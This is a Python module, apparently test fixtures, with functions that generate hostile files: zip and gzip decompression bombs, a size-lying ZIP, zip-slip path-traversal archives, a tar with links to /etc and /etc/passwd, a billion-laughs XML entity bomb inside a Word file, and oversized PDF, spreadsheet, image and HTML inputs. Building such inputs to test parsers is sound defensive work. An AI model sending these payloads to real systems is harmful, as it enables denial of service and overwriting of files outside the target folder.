"""Files made to hurt whoever opens them: each declares, or unpacks to, far more than it is."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

MB = 1024 * 1024


def zip_bomb(path: Path) -> Path:
    """A ZIP of 400 MB of zeros in 2 MB."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive, archive.open("big", "w") as out:
        zeros = bytes(8 * MB)
        for _ in range(50):
            out.write(zeros)
    return path


def lying_zip_bomb(path: Path) -> Path:
    """A ZIP whose list of members says that 300 MB are 10 bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(bytes(MB)) for _ in range(300)) + packer.flush()
    name = b"small.txt"
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(packed), 10, len(name), 0) + name
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(packed), 10, len(name), 0, 0, 0, 0, 0, 0)
    entry += name
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(entry), len(local) + len(packed), 0)
    path.write_bytes(local + packed + entry + end)
    return path


def zip_slip(path: Path) -> Path:
    """A ZIP whose members are named out of the folder, each in another way, and one that is not."""
    with zipfile.ZipFile(path, "w") as archive:
        for name in ("../../slipped.txt", "/tmp/slipped-absolute.txt", "..\\..\\slipped.txt", "C:\\slipped.txt"):
            archive.writestr(name, "slipped")
        archive.writestr("photos/harmless.txt", "harmless")
    return path


def tar_links(path: Path) -> Path:
    """A tar with a link to /etc, a file through that link, a hard link and a device."""
    with tarfile.open(path, "w:gz") as archive:
        for name, kind, target in (
            ("out", tarfile.SYMTYPE, "/etc"),
            ("hard", tarfile.LNKTYPE, "/etc/passwd"),
            ("device", tarfile.CHRTYPE, ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
        info = tarfile.TarInfo("out/slipped-through-link")
        info.size = 7
        archive.addfile(info, io.BytesIO(b"slipped"))
    return path


def nested(path: Path, *, depth: int = 6) -> Path:
    """An archive in an archive in an archive…"""
    content = b"at the bottom"
    for n in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("bottom.txt" if n == 0 else f"inner-{n}.zip", content)
        content = out.getvalue()
    path.write_bytes(content)
    return path


def many_members(path: Path, *, n: int = 20_000) -> Path:
    """A ZIP of so many empty files."""
    with zipfile.ZipFile(path, "w") as archive:
        for i in range(n):
            archive.writestr(str(i), b"")
    return path


def million_page_pdf(path: Path, *, is_real: bool = False) -> Path:
    """A PDF that declares a million pages: one page said to be a million, or one page named a million times."""
    kids = b"3 0 R " * (1_000_000 if is_real else 1)
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1000000 /Kids [" + kids + b"] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 20 100 Td (The only page) Tj ET\nendstream",
    ]
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for n, body in enumerate(bodies, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    start = out.tell()
    out.write(b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % at for at in places))
    out.write(b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start)
    path.write_bytes(out.getvalue())
    return path


def wide_xlsx(path: Path, *, rows: int = 70_000) -> Path:
    """A workbook that declares 17 thousand million cells; each of its rows has one, in the last column."""
    import openpyxl

    whole = io.BytesIO()
    openpyxl.Workbook().save(whole)
    sheet = ["<?xml version='1.0'?><worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>",
             "<dimension ref='A1:XFD1048576'/><sheetData>"]  # fmt: skip
    sheet += [f"<row r='{n}'><c r='XFD{n}'><v>1</v></c></row>" for n in range(1, rows + 1)]
    sheet.append("</sheetData></worksheet>")
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            content = "".join(sheet) if info.filename == "xl/worksheets/sheet1.xml" else old.read(info)
            new.writestr(info.filename, content)
    return path


def huge_png(path: Path, *, side: int = 60_000) -> Path:
    """A black picture of 60,000 × 60,000 points, in half a megabyte."""
    packer = zlib.compressobj(1)
    row = bytes(1 + side // 8)
    data = b"".join(packer.compress(row * 100) for _ in range(side // 100)) + packer.flush()
    path.write_bytes(_png(side, side, [(b"IDAT", data)]))
    return path


def exif_png(path: Path, *, size: int = 50 * MB) -> Path:
    """A small picture with 50 MB of camera data."""
    exif = b"II*\0\x08\0\0\0\0\0\0\0\0\0" + bytes(size)
    path.write_bytes(_png(8, 8, [(b"eXIf", exif), (b"IDAT", zlib.compress(bytes(8 * 2)))]))
    return path


def exif_jpeg(path: Path, *, size: int = 50 * MB) -> Path:
    """A small photograph with 50 MB of camera data, in segments of 64 KB."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (64, 64), 128).save(out, "JPEG")
    head, rest = out.getvalue()[:2], out.getvalue()[2:]
    piece = b"Exif\0\0II*\0\x08\0\0\0\0\0" + bytes(65_000)
    segment = b"\xff\xe1" + struct.pack(">H", len(piece) + 2) + piece
    path.write_bytes(head + segment * (size // len(segment)) + rest)
    return path


def _png(width: int, height: int, chunks: list[tuple[bytes, bytes]]) -> bytes:
    header = struct.pack(">2L5B", width, height, 1, 0, 0, 0, 0)
    whole = [(b"IHDR", header), *chunks, (b"IEND", b"")]
    body = b"".join(
        struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data)) for name, data in whole
    )
    return b"\x89PNG\r\n\x1a\n" + body


def deep_html(path: Path, *, depth: int = 200_000) -> Path:
    """A page of so many elements within each other, with a script at the bottom."""
    path.write_text(
        "<!doctype html><html><body>" + "<div>" * depth + "deep" + "<script>document.write('EVIL')</script>"
    )
    return path


def gzip_bomb(path: Path) -> Path:
    """256 MB of zeros in a megabyte of gzip."""
    with gzip.open(path, "wb", compresslevel=1) as out:
        zeros = bytes(8 * MB)
        for _ in range(32):
            out.write(zeros)
    return path


def docx_bomb(path: Path) -> Path:
    """A Word file whose text is 60 MB of one letter."""
    import docx

    whole = io.BytesIO()
    docx.Document().save(whole)
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for info in old.infolist():
            if info.filename != "word/document.xml":
                new.writestr(info.filename, old.read(info))
        with new.open("word/document.xml", "w") as out:
            out.write(
                b"<?xml version='1.0'?><w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/"
                b"main'><w:body>"
            )
            piece = b"<w:p><w:r><w:t>" + b"A" * 1000 + b"</w:t></w:r></w:p>"
            for _ in range(60):
                out.write(piece * 1000)
            out.write(b"</w:body></w:document>")
    return path


def billion_laughs_docx(path: Path) -> Path:
    """A Word file whose text is an entity of entities of entities…"""
    import docx

    whole = io.BytesIO()
    docx.Document().save(whole)
    entities = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    text = (
        f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a0 'laugh'>{entities}]><w:document xmlns:w='http://schemas."
        "openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body>"
        "</w:document>"
    )
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(path, "w") as new:
        for info in old.infolist():
            new.writestr(info.filename, text if info.filename == "word/document.xml" else old.read(info))
    return path
